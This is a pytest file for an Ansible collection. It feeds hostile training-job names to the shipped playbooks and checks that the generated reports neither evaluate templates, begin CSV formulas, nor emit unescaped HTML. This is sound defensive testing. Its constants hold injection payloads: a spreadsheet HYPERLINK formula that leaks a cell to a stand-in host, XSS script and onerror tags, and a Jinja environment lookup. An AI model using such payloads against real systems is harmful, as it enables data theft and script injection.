# -*- coding: utf-8 -*-
# Copyright (c) 2026 mlops.modelarts contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Every shipped playbook, once each, against a project whose version texts are hostile (version matrix too).

Anyone who can create a training job chooses its name and description: here they carry a spreadsheet formula, HTML
and a Jinja template. Each playbook must work as on plain data, and nowhere may the template be evaluated (its
lookup would print the canary). On ansible-core 2.17 the playbooks run with the default, non-native Jinja (the
matrix sets ANSIBLE_JINJA2_NATIVE=true for the other suites).
"""

from __future__ import absolute_import, division, print_function
__metaclass__ = type

import csv
import json
import os

import pytest

from conftest import credentials, execute_playbook
from tests.emulator.harness import Emulator

CANARY = 'canary-the-template-was-evaluated'
SPREADSHEET = '=HYPERLINK("http://x.invalid/?leak="&A1,"click me")'
HTML = '<script>alert(1)</script><img src=x onerror=alert(2)>'
JINJA = "{{ lookup('ansible.builtin.env', 'HOSTILE_CANARY') }}"
NOW_MS = 1767225600000
HOSTILE_VERSIONS = [
    dict(version_id=9001, version_name=SPREADSHEET, version_desc=JINJA, status=8, gpu_num=4, pool_id='pool-gpu-a',
         flavor_code='\r=1+1', create_time=NOW_MS - 7200000, start_time=NOW_MS - 3600000),
    dict(version_id=9002, version_name=HTML, version_desc=SPREADSHEET, status=8, gpu_num=1, pool_id='pool-gpu-a',
         create_time=NOW_MS - 7200000, start_time=NOW_MS - 7000000),
    dict(version_id=9003, version_name=JINJA, version_desc=HTML, status=8, gpu_num=2, pool_id='pool-gpu-a',
         flavor_code='@SUM(1+1)', create_time=NOW_MS - 7200000, start_time=NOW_MS - 5400000),
    dict(version_id=9004, version_name=HTML + '-done', version_desc=JINJA, status=10, gpu_num=1, pool_id='pool-gpu-a',
         create_time=NOW_MS - 7200000, start_time=NOW_MS - 7000000, end_time=NOW_MS - 3600000),
]


@pytest.fixture(scope='module')
def hostile_emulator():
    with Emulator(versions=0) as running:
        running.set_versions(replace=HOSTILE_VERSIONS)
        yield running


def _environment():
    environment = {'HOSTILE_CANARY': CANARY}
    if 'ANSIBLE_JINJA2_NATIVE' in os.environ:
        environment['ANSIBLE_JINJA2_NATIVE'] = 'false'  # the shipped playbooks run on a default configuration
    return environment


def _playbook_vars(emulator, **extra):
    return dict(dict(('modelarts_' + key, value) for key, value in credentials(emulator, 'token').items()), **extra)


def _run(tmp_path_factory, playbook, **options):
    work = tmp_path_factory.mktemp(playbook)
    env = dict(_environment(), **options.pop('env', {}))
    run = execute_playbook(work, '- ansible.builtin.import_playbook: mlops.modelarts.%s\n' % playbook, env=env,
                           callback='default', **options)
    return run, work


def _assert_not_evaluated(run):
    assert CANARY not in run.stdout + run.stderr


def test_demo_shows_hostile_names_as_text(hostile_emulator, tmp_path_factory):
    options = credentials(hostile_emulator, 'token')
    run, dummy = _run(tmp_path_factory, 'demo', env={
        'OS_AUTH_TOKEN': options['token'], 'OS_PROJECT_ID': options['project_id'], 'OS_REGION_NAME': 'eu-de',
        'MODELARTS_ENDPOINT': options['endpoint']})
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-2000:]
    assert 'failed=0' in run.stdout
    _assert_not_evaluated(run)


def test_gate_on_training_passes_a_completed_version_with_a_hostile_name(hostile_emulator, tmp_path_factory):
    run, dummy = _run(tmp_path_factory, 'gate_on_training',
                      extra_vars=_playbook_vars(hostile_emulator, modelarts_version_name=HTML + '-done'))
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-2000:]
    assert 'PASSED' in run.stdout
    _assert_not_evaluated(run)


def test_wait_for_capacity_passes_when_the_pool_has_room(hostile_emulator, tmp_path_factory):
    run, dummy = _run(tmp_path_factory, 'wait_for_capacity', extra_vars=_playbook_vars(
        hostile_emulator, modelarts_pool_id='pool-gpu-a', modelarts_max_active_gpus=7))
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-2000:]
    _assert_not_evaluated(run)


@pytest.fixture(scope='module')
def hostile_report(hostile_emulator, tmp_path_factory):
    options = credentials(hostile_emulator, 'token')
    host = ('%s ansible_connection=local modelarts_region=eu-de modelarts_endpoint=%s modelarts_project_id=%s '
            'modelarts_token=%s modelarts_retries=0\n')
    inventory = '[projects]\n' + host % ('hostile', options['endpoint'], options['project_id'], options['token']) + \
        host % ('broken', options['endpoint'], options['project_id'], 'not-the-token')
    run, work = _run(tmp_path_factory, 'gpu_report', inventory=inventory,
                     # The per-host path, whose failure per host this file tests (one pass: test_report_one_pass.py).
                     extra_vars={'modelarts_report_dir': str(tmp_path_factory.getbasetemp() / 'hostile-report'),
                                 'modelarts_report_per_host': True})
    return run, tmp_path_factory.getbasetemp() / 'hostile-report'


def test_gpu_report_fails_only_for_the_project_whose_query_failed(hostile_report):
    # On 2.17 without native Jinja the last task used to fail every project, with "msg": "".
    run, dummy = hostile_report
    assert run.returncode != 0 and 'fatal: [hostile]' not in run.stdout, run.stdout[-3000:] + run.stderr[-2000:]
    # The task runs in the role mlops.modelarts.gpu_report, whose name prefixes it in the output.
    assert 'gpu_report : Fail when a project could not be reported' in run.stdout
    failure = run.stdout.split('gpu_report : Fail when a project could not be reported')[1]
    assert 'fatal: [broken]' in failure and 'HTTP 401' in failure


def test_gpu_report_evaluates_no_template_in_api_text(hostile_report):
    run, directory = hostile_report
    _assert_not_evaluated(run)
    for name in os.listdir(str(directory)):
        with open(str(directory / name)) as handle:
            assert CANARY not in handle.read(), name
    with open(str(directory / 'gpu_report.json')) as handle:
        report = json.load(handle)
    assert sorted(item['version_name'] for item in report['longest_running']) == sorted([SPREADSHEET, HTML, JINJA])


def test_gpu_report_csv_cells_never_start_a_formula(hostile_report):
    dummy, directory = hostile_report
    for name in ('gpu_report.csv', 'gpu_report_longest_running.csv'):
        with open(str(directory / name), newline='') as handle:
            rows = list(csv.reader(handle))
        assert all(len(row) == len(rows[0]) for row in rows), name
        for row in rows:
            for cell in row:
                assert not cell.startswith(('=', '+', '@', '\t', '\r')), (name, cell)


def test_gpu_report_html_escapes_hostile_names(hostile_report):
    dummy, directory = hostile_report
    with open(str(directory / 'gpu_report.html')) as handle:
        page = handle.read()
    assert '<script>alert' not in page and 'onerror=alert(2)>' not in page and '&lt;script&gt;alert(1)' in page
